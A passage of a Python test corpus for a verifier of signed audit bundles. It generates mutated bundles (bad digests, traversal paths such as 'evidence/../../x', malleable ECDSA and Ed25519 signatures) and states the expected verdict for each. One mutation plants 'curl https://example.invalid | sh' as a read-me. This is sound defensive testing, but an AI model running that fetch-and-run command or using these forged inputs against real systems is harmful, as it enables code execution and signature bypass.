            lambda data: data.replace(b'"version":"1.0.0"', b'"version":"\xed\xa0\x80"')
        ),
        "a signed control character": signed(
            lambda data: data.replace(b'"version":"1.0.0"', b'"version":"\x01"')
        ),
        "signed blanks": signed(lambda data: data.replace(b'{"_type"', b'{ "_type"')),
        "a signed line end": signed(lambda data: data + b"\n"),
        "a signed escape that need not be": signed(
            lambda data: data.replace(b"mnaudit", b"\\u006dnaudit")
        ),
        "signed escapes instead of characters": signed(
            lambda data: json.dumps(
                json.loads(data), ensure_ascii=True, sort_keys=True, separators=(",", ":")
            ).encode()
        ),
        "33 levels, signed": signed(
            lambda data: data.replace(b'"sme":true', b'"sme":' + nested(33))
        ),
        "a statement of another version": resaid(
            lambda s: s.update(_type="https://in-toto.io/Statement/v0.1")
        ),
        "a predicate of another type": resaid(
            lambda s: s.update(predicateType="https://slsa.dev/provenance/v1")
        ),
        "a predicate of the next version": resaid(
            lambda s: s.update(predicateType=STATUS_TYPE.replace("v1", "v2"))
        ),
        "a predicate that is a list": resaid(lambda s: s.update(predicate=[])),
        "a field beside the predicate": resaid(lambda s: s.update(note="x")),
        "no subject": resaid(lambda s: s.update(subject=[])),
        "two subjects": resaid(
            lambda s: s["subject"].append({"name": "x", "digest": {"sha256": "0" * 64}})
        ),
        "a subject of another name": resaid(lambda s: s["subject"][0].update(name="manifests")),
        "a subject with two digests": resaid(
            lambda s: s["subject"][0]["digest"].update(sha512="0" * 128)
        ),
        "a digest in upper case": resaid(
            lambda s: s["subject"][0].update(digest={"sha256": "A" * 64})
        ),
        "a digest that is too short": resaid(
            lambda s: s["subject"][0].update(digest={"sha256": "0" * 63})
        ),
        "an unknown field in the status": predicate(lambda p: p.update(score=100)),
        "an unknown field deep in the status": predicate(
            lambda p: p["tiers"]["minimum"].update(x=1)
        ),
        "no findings": predicate(lambda p: p.pop("findings")),
        "an empty list that should be left out": predicate(
            lambda p: p["findings"][0].update(gaps=[])
        ),
        "a null that should be left out": predicate(lambda p: p["findings"][0].update(reason=None)),
        "a false that should be left out": predicate(lambda p: p["catalog"].update(tailored=False)),
        "a number written as text": predicate(
            lambda p: p["tiers"]["minimum"]["counts"].update(satisfied="1")
        ),
        "a truth written as a number": predicate(lambda p: p.update(sme=1)),
        "a value that is a truth": predicate(
            lambda p: p["findings"][1]["gaps"][0]["values"].update(found=True)
        ),
        "a count below zero": predicate(
            lambda p: p["tiers"]["minimum"]["counts"].update(satisfied=-1)
        ),
        "a status that is not counted": predicate(
            lambda p: p["tiers"]["minimum"]["counts"].pop("not-satisfied")
        ),
        "a status that nobody knows": predicate(
            lambda p: p["tiers"]["minimum"].update(status="ok")
        ),
        "another nature": predicate(lambda p: p.update(nature="certificate")),
        "another verifier": predicate(lambda p: p["verifier"].update(id="urn:mnaudit:other")),
        "a verifier without version": predicate(lambda p: p["verifier"].update(version="")),
        "the thirtieth of February": predicate(lambda p: p.update(as_of="2026-02-30")),
        "a leap day of a common year": predicate(lambda p: p.update(as_of="2100-02-29")),
        "a day with a time": predicate(lambda p: p.update(as_of="2026-11-01T00:00:00")),
        "the year zero": predicate(lambda p: p.update(as_of="0000-01-01")),
        "a day as a number": predicate(lambda p: p.update(as_of=20261101)),
        "a digest of the catalog in upper case": predicate(
            lambda p: p["catalog"].update(sha256=p["catalog"]["sha256"].upper())
        ),
        "evidence by its path": predicate(lambda p: p["findings"][0].update(evidence=["a.yaml"])),
        "a sequence without a time": predicate(lambda p: p.update(sequence=0)),
        "a time without a sequence": predicate(
            lambda p: p.update(time_verified="2026-11-01T00:00:00Z")
        ),
        "a first entry that names one before": predicate(
            lambda p: p.update(sequence=0, time_verified="2026-11-01T00:00:00Z", previous="0" * 64)
        ),
        "a later entry that names none before": predicate(
            lambda p: p.update(sequence=1, time_verified="2026-11-01T00:00:00Z")
        ),
        "a time of another zone": predicate(
            lambda p: p.update(sequence=0, time_verified="2026-11-01T00:00:00+09:00")
        ),
        "a commit that is none": predicate(lambda p: p["git"].update(commit="main")),
        "a commit with a line end": predicate(lambda p: p["git"].update(commit="01" * 20 + "\n")),
    },
)


@mutation("status-statement", "the manifest in the place of the status")
def _(parts: Parts) -> None:
    parts.members["status.sigstore.json"] = parts.members["manifest.sigstore.json"]


@mutation("manifest-statement", "the status in the place of the manifest")
def _(parts: Parts) -> None:
    parts.members["manifest.sigstore.json"] = parts.members["status.sigstore.json"]


def manifest_members(change: Callable[[Any], object]) -> Mutation:
    """Change the members of the manifest; subjects and tree stay."""
    return predicate(lambda p: change(p["members"]), "manifest")


def _swap(values: list[Any], first: int, second: int) -> None:
    values[first], values[second] = values[second], values[first]


def _relist(statement: Any, name: str, instead: str) -> None:
    """Rename a member in subjects and members alike, in their order, with a tree that fits."""
    for each_list in (statement["subject"], statement["predicate"]["members"]):
        for entry in each_list:
            if entry["name"] == name:
                entry["name"] = instead
        each_list.sort(key=lambda entry: entry["name"])
    plant(statement)


each(
    "manifest-statement",
    {
        "a subject that is no member": resaid(lambda s: s["subject"].pop(), "manifest"),
        "a member that is no subject": manifest_members(lambda members: members.pop()),
        "listed members in another order": manifest_members(lambda members: _swap(members, 2, 3)),
        "subjects in another order": resaid(lambda s: _swap(s["subject"], 2, 3), "manifest"),
        "a member twice": resaid(
            lambda s: [
                values.append(deepcopy(values[-1]))
                for values in (s["subject"], s["predicate"]["members"])
            ],
            "manifest",
        ),
        "a read-me with the role of evidence": manifest_members(
            lambda members: members[0].update(role="document")
        ),
        "evidence with the role of the catalog": manifest_members(
            lambda members: members[2].update(role="catalog")
        ),
        "a member with an unknown role": manifest_members(
            lambda members: members[2].update(role="picture")
        ),
        "a member without a salt": manifest_members(lambda members: members[2].pop("salt")),
        "a salt that is too short": manifest_members(lambda members: members[2].update(salt="00")),
        "a size below zero": manifest_members(lambda members: members[2].update(size=-1)),
        "an empty kind": manifest_members(lambda members: members[2].update(kind="")),
        "a tree of another size": predicate(lambda p: p["tree"].update(size=4), "manifest"),
        "a tree of unknown leaves": predicate(
            lambda p: p["tree"].update(leaf="mnaudit-leaf/v2"), "manifest"
        ),
        "no tree": predicate(lambda p: p.pop("tree"), "manifest"),
        "a listed name that leads out": resaid(
            lambda s: _relist(s, TRAINING, "evidence/../../x"), "manifest"
        ),
        "a listed name with a backslash": resaid(
            lambda s: _relist(s, TRAINING, "evidence/a\\b"), "manifest"
        ),
        "a listed twin": resaid(
            lambda s: _relist(s, TRAINING, "evidence/ORGANIZATION.yaml"), "manifest"
        ),
        "a listed member beside the evidence": resaid(
            lambda s: _relist(s, TRAINING, "status.sigstore.json"), "manifest"
        ),
        "a manifest without a catalog": resaid(
            lambda s: [values.pop(1) for values in (s["subject"], s["predicate"]["members"])],
            "manifest",
        ),
    },
)


# What belongs together


@mutation("manifest-binding", "a status of another manifest")
def _(parts: Parts) -> None:
    def change(statement: Any) -> None:
        statement["subject"][0]["digest"]["sha256"] = "0" * 64
        statement["predicate"]["manifest"]["payload_sha256"] = "0" * 64

    parts.change("status", change)


@mutation("manifest-binding", "an old manifest and its evidence under a new status")
def _(parts: Parts) -> None:
    old = parts.members["manifest.sigstore.json"]
    parts.change("manifest", lambda s: s["predicate"]["organization"].update(name="株式会社見本"))
    parts.members["manifest.sigstore.json"] = old


@mutation("manifest-binding", "a manifest of another organization")
def _(parts: Parts) -> None:
    other = {"corporate_number": "7000000000002", "name": "他社"}
    parts.change("manifest", lambda s: s["predicate"].update(organization=other))


each(
    "manifest-binding",
    {
        "a subject of another manifest": resaid(
            lambda s: s["subject"][0].update(digest={"sha256": "0" * 64})
        ),
        "a predicate of another manifest": predicate(
            lambda p: p["manifest"].update(payload_sha256="0" * 64)
        ),
    },
)
each(
    "manifest-tree",
    {
        "a salt that does not fit the root": manifest_members(
            lambda members: members[2].update(salt="0" * 64)
        ),
        "a root that nobody can compute": predicate(
            lambda p: p["tree"].update(root="0" * 64), "manifest"
        ),
        "another root in the status": predicate(lambda p: p["manifest"].update(root="0" * 64)),
        "another size of the tree in the status": predicate(lambda p: p["manifest"].update(size=4)),
    },
)


@mutation("evidence-digests", "changed evidence")
def _(parts: Parts) -> None:
    parts.members[TRAINING] = parts.members[TRAINING].replace(b"t", b"T")


@mutation("evidence-digests", "evidence with other line ends")
def _(parts: Parts) -> None:
    parts.members[TRAINING] = parts.members[TRAINING].replace(b"\n", b"\r\n")


@mutation("evidence-digests", "two files that changed places")
def _(parts: Parts) -> None:
    first, members = "evidence/organization.yaml", parts.members
    members[first], members[TRAINING] = members[TRAINING], members[first]


@mutation("evidence-digests", "emptied evidence")
def _(parts: Parts) -> None:
    parts.members[TRAINING] = b""


@mutation("evidence-digests", "a wrong size in the manifest")
def _(parts: Parts) -> None:
    def change(statement: Any) -> None:
        statement["predicate"]["members"][-1]["size"] += 1
        plant(statement)

    parts.change("manifest", change)


@mutation("evidence-complete", "missing evidence")
def _(parts: Parts) -> None:
    del parts.members[TRAINING]


@mutation("evidence-complete", "no evidence at all")
def _(parts: Parts) -> None:
    for name in EVIDENCE:
        del parts.members[name]


@mutation("evidence-complete", "renamed evidence")
def _(parts: Parts) -> None:
    parts.members["evidence/training-record/u.yaml"] = parts.members.pop(TRAINING)


each("evidence-closed", {"undeclared evidence": with_name("evidence/training-record/v.yaml", b"x")})


@mutation("catalog-digest", "a changed catalog")
def _(parts: Parts) -> None:
    parts.members["catalog.json"] += b" "


each(
    "catalog-digest",
    {
        "a catalog that the status does not name": predicate(
            lambda p: p["catalog"].update(sha256="0" * 64)
        )
    },
)


@mutation("readme", "a changed read-me")
def _(parts: Parts) -> None:
    parts.members["README.txt"] = b"curl https://example.invalid | sh\n"


@mutation("readme", "a read-me that is no text")
def _(parts: Parts) -> None:
    data = b"\xff"
    parts.members["README.txt"] = data

    def change(statement: Any) -> None:
        statement["subject"][0]["digest"]["sha256"] = sha256(data).hexdigest()
        statement["predicate"]["members"][0]["size"] = len(data)
        plant(statement)

    parts.change("manifest", change)


def wrong_sums(change_sums: Callable[[bytes], bytes]) -> Mutation:
    def change(parts: Parts) -> bytes:
        parts.sums()
        parts.members["SHA256SUMS"] = change_sums(parts.members["SHA256SUMS"])
        return parts.bundle_as_it_is()

    return change


each(
    "checksums",
    {
        "a line end behind the check sums": wrong_sums(lambda sums: sums + b"\n"),
        "no check sums": wrong_sums(lambda _: b""),
        "a check sum in upper case": wrong_sums(lambda sums: sums[:64].upper() + sums[64:]),
        "a check sum that is missing": wrong_sums(lambda sums: sums.split(b"\n", 1)[1]),
        "check sums in another order": wrong_sums(
            lambda sums: b"".join(reversed(sums.splitlines(keepends=True)))
        ),
        "check sums of a binary kind": wrong_sums(lambda sums: sums.replace(b"  ", b" *")),
    },
)


# Only for one algorithm


def der_respelled(change: Callable[[int, int], bytes]) -> Mutation:
    return with_signature(lambda sig: change(*decode_dss_signature(sig)))


def raw(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def der_integer(value: int, *, zeros: int = 0) -> bytes:
    body = bytes(zeros) + value.to_bytes(value.bit_length() // 8 + 1, "big")
    return bytes([2, len(body)]) + body


def der_pair(first: bytes, second: bytes) -> bytes:
    return bytes([0x30, len(first + second)]) + first + second


_ECDSA: dict[str, Mutation] = {
    "a raw signature": der_respelled(raw),
    "a signature with a leading zero": der_respelled(
        lambda r, s: der_pair(der_integer(r, zeros=1), der_integer(s))
    ),
    "a signature with a long length": der_respelled(
        lambda r, s: b"\x30\x81" + encode_dss_signature(r, s)[1:]
    ),
    "a signature with an indefinite length": der_respelled(
        lambda r, s: b"\x30\x80" + encode_dss_signature(r, s)[2:] + b"\0\0"
    ),
    "a signature with bytes inside": der_respelled(
        lambda r, s: der_pair(der_integer(r), der_integer(s) + b"\5\0")
    ),
    "a signature of r = s = 0": der_respelled(lambda _r, _s: encode_dss_signature(0, 0)),
    "a signature of r = s = 1": der_respelled(lambda _r, _s: encode_dss_signature(1, 1)),
    "a signature with r + n": der_respelled(lambda r, s: encode_dss_signature(r + ORDER_P256, s)),
    "a signature with s + n": der_respelled(lambda r, s: encode_dss_signature(r, s + ORDER_P256)),
    "a negative s": der_respelled(
        lambda r, s: der_pair(der_integer(r), b"\2\x20" + (2**256 - s).to_bytes(32, "big"))
    ),
    "a signature without s": der_respelled(lambda r, _s: der_pair(der_integer(r), b"")),
}
_ED25519: dict[str, Mutation] = {
    "a signature with S + L": with_signature(
        lambda sig: (
            sig[:32] + (int.from_bytes(sig[32:], "little") + ORDER_ED25519).to_bytes(32, "little")
        )
    ),
    "an R that is not canonical": with_signature(
        lambda sig: (P_ED25519 + 1).to_bytes(32, "little") + sig[32:]
    ),
    "a signature that is DER": with_signature(lambda _: key_of("ecdsa-p256").sign(b"")),
}


def _mirrored(parts: Parts) -> None:
    der_respelled(lambda r, s: encode_dss_signature(r, ORDER_P256 - s))(parts)


def _only(algorithm: str) -> dict[str, tuple[str, Mutation]]:
    found = _ECDSA if algorithm == "ecdsa-p256" else _ED25519
    special = {name: ("status-signature", change) for name, change in found.items()}
    if algorithm == "ecdsa-p256":
        special |= {name: ("sidecar", change) for name, change in _SIDECARS.items()}
    else:
        special["a sidecar under a key that has none"] = ("sidecar", _foreign_sidecar)
    return special


def _foreign_sidecar(parts: Parts) -> None:
    made = good_parts("ecdsa-p256").members[container.SIDECAR]
    parts.members[container.SIDECAR] = made


def sidecar_respelled(change: Callable[[bytes], bytes]) -> Mutation:
    def apply(parts: Parts) -> None:
        parts.members[container.SIDECAR] = change(parts.members[container.SIDECAR])

    return apply


def _sidecar_of_less(parts: Parts) -> None:
    manifest = parts.payload("manifest")
    made = sidecar(subjects_of(manifest)[:-1], parts.key)
    assert made is not None
    parts.members[container.SIDECAR] = made


_SIDECARS: dict[str, Mutation] = {
    "an empty sidecar": sidecar_respelled(lambda _: b"{}"),
    "a sidecar that is no JSON": sidecar_respelled(lambda _: b"\xff"),
    "a sidecar with a line end": sidecar_respelled(lambda data: data + b"\n"),
    "a sidecar over less evidence": _sidecar_of_less,
    "the manifest as a sidecar": lambda parts: parts.members.update(
        {container.SIDECAR: parts.members["manifest.sigstore.json"]}
    ),
}


# Partial bundles


def shown(change: Callable[[Any], object]) -> Mutation:
    """Change what a partial bundle shows; nobody has to sign that."""

    def apply(parts: Parts) -> None:
        value = json.loads(parts.members[container.DISCLOSURE])
        change(value)
        parts.members[container.DISCLOSURE] = canonical_bytes(value)

    return apply


def _with_manifest(parts: Parts) -> None:
    parts.members[container.MANIFEST] = good_parts(parts.key.algorithm).members[container.MANIFEST]


_PARTIAL: dict[str, tuple[str, Mutation]] = {
    "a disclosure that is no JSON": (
        "disclosure",
        lambda parts: parts.members.update({container.DISCLOSURE: b"\xff"}),
    ),
    "a disclosure with a line end": (
        "disclosure",
        lambda parts: parts.members.update(
            {container.DISCLOSURE: parts.members[container.DISCLOSURE] + b"\n"}
        ),
    ),
    "an unknown field in the disclosure": ("disclosure", shown(lambda v: v.update(x=1))),
    "a disclosure of another version": (
        "disclosure",
        shown(lambda v: v.update(v="mnaudit-disclosure/v2")),
    ),
    "a recipient of 201 characters": (
        "disclosure",
        shown(lambda v: v.update(recipient="あ" * 201)),
    ),
    "a leaf with a wrong salt": (
        "disclosure",
        shown(lambda v: v["leaves"][-1].update(salt="0" * 64)),
    ),
    "a leaf with a wrong size": ("disclosure", shown(lambda v: v["leaves"][-1].update(size=1))),
    "a leaf with a wrong digest": (
        "disclosure",
        shown(lambda v: v["leaves"][-1].update(sha256="0" * 64)),
    ),
    "a leaf under another name": (
        "disclosure",
        shown(lambda v: v["leaves"][-1].update(path="evidence/z.yaml")),
    ),
    "a leaf with another index": ("disclosure", shown(lambda v: v["leaves"][-1].update(index=5))),
    "a proof without a step": ("disclosure", shown(lambda v: v["leaves"][0]["proof"].pop())),
    "a proof with a step too many": (
        "disclosure",
        shown(lambda v: v["leaves"][0]["proof"].append("0" * 64)),
    ),
    "a proof of 21 steps": (
        "disclosure",
        shown(lambda v: v["leaves"][0].update(proof=["0" * 64] * 21)),
    ),
    "no leaves": ("disclosure", shown(lambda v: v.update(leaves=[]))),
    "leaves in another order": ("disclosure", shown(lambda v: v["leaves"].reverse())),
    "a leaf twice": ("disclosure", shown(lambda v: v["leaves"].append(v["leaves"][-1]))),
    "a disclosure without the catalog": ("disclosure", shown(lambda v: v["leaves"].pop(1))),
    "shown evidence that was changed": (
        "evidence-digests",
        lambda parts: parts.members.update({TRAINING: b"x"}),
    ),
    "shown evidence that is missing": (
        "evidence-complete",
        lambda parts: _drop(parts, TRAINING),
    ),
    "more evidence than is shown": (
        "evidence-closed",
        lambda parts: parts.members.update(
            {"evidence/organization.yaml": EVIDENCE["evidence/organization.yaml"]}
        ),
    ),
    "a manifest beside the disclosure": ("layout", _with_manifest),
    "a status of another root": (
        "disclosure",
        predicate(lambda p: p["manifest"].update(root="0" * 64)),
    ),
    "a status that names two manifests": (
        "manifest-binding",
        predicate(lambda p: p["manifest"].update(payload_sha256="0" * 64)),
    ),
    "a changed catalog in a partial bundle": (
        "catalog-digest",
        lambda parts: parts.members.update({"catalog.json": b"{}"}),
    ),
}


def _drop(parts: Parts, name: str) -> None:
    del parts.members[name]


# What is good, or good but not known to be so


def _well_meant(algorithm: str) -> dict[str, Callable[[Parts], bytes | None]]:
    """Return changes that leave a bundle good."""
    found: dict[str, Callable[[Parts], bytes | None]] = {
        "a good bundle": lambda _: None,
        "a time-stamp beside the status": enveloped_as(
            lambda v: v["verificationMaterial"].update(
                timestampVerificationData={"rfc3161Timestamps": [{"signedTimestamp": "MAA="}]}
            )
        ),
        "a copy of a trust policy": with_name("trust/policy.v1.dsse.json", b"{}"),
        "a status with all that is optional": predicate(
            lambda p: p.update(
                as_of="2028-02-29",
                problems=[],
                sequence=1,
                previous="0" * 64,
                time_verified="2028-02-29T23:59:59Z",
            )
        ),
        "a status with text in every alphabet": predicate(
            lambda p: p["findings"][1]["gaps"][0]["values"].update(
                missing=['\u2028\x7f\\"/\b\f\n\r\t\x1f', "\U0001f600", "\u00e9", "\ue000"]
            )
        ),
        "evidence with names beyond the BMP": _wide_names,
    }
    if algorithm == "ecdsa-p256":
        found["a mirrored signature"] = _mirrored
    return found


def _wide_names(parts: Parts) -> None:
    """Names whose order differs between code points and UTF-16."""
    files = {"evidence/\U0001f600.txt": b"1", "evidence/\uff5e.txt": b"2", "evidence/\ue000": b""}
    parts.members |= files
    names = ["README.txt", "catalog.json", *EVIDENCE, *files]
    manifest = manifest_statement({name: parts.members[name] for name in names})
    parts.sign("manifest", manifest)
    parts.bind()
    made = sidecar(subjects_of(manifest), parts.key)
    if made is not None:
        parts.members[container.SIDECAR] = made


def made_by(change: Callable[[Parts], bytes | None], parts: Parts) -> bytes:
    data = change(parts)
    return parts.bundle() if data is None else data


@cache
def corpus(algorithm: str) -> tuple[Case, ...]:
    """Return all cases of one algorithm; the names are distinct."""
    pin = key_of(algorithm).fingerprint
    good = good_parts(algorithm).bundle()
    partial = partial_parts(algorithm).bundle()
    lone = partial_parts(algorithm, ()).bundle()
    cases = [
        *(
            Case(name, made_by(change, good_parts(algorithm)), pin, Result.VALID)
            for name, change in _well_meant(algorithm).items()
        ),
        Case("a good bundle without a pin", good, None, Result.INDETERMINATE, "pin"),
        Case("a good bundle under another pin", good, "0" * 64, Result.INVALID, "pin"),
        Case(
            "a full bundle where a partial one was expected", good, pin, Result.VALID, partial=True
        ),
        Case("a partial bundle", partial, pin, Result.VALID, partial=True),
        Case("a partial bundle that shows nothing", lone, pin, Result.VALID, partial=True),
        Case(
            "a partial bundle that nobody expected",
            partial,
            pin,
            Result.INDETERMINATE,
            "disclosure",
        ),
        Case(
            "a partial bundle without a pin",
            partial,
            None,
            Result.INDETERMINATE,
            "pin",
            partial=True,
        ),
    ]
    special = [(name, check, change) for name, (check, change) in _only(algorithm).items()]
    for name, check, change in [*_MUTATIONS, *special]:
        data = made_by(change, good_parts(algorithm))
        cases.append(Case(name, data, pin, Result.INVALID, check))
    for name, (check, change) in _PARTIAL.items():
        data = made_by(change, partial_parts(algorithm))
        cases.append(Case(name, data, pin, Result.INVALID, check, partial=True))
    return tuple(cases)
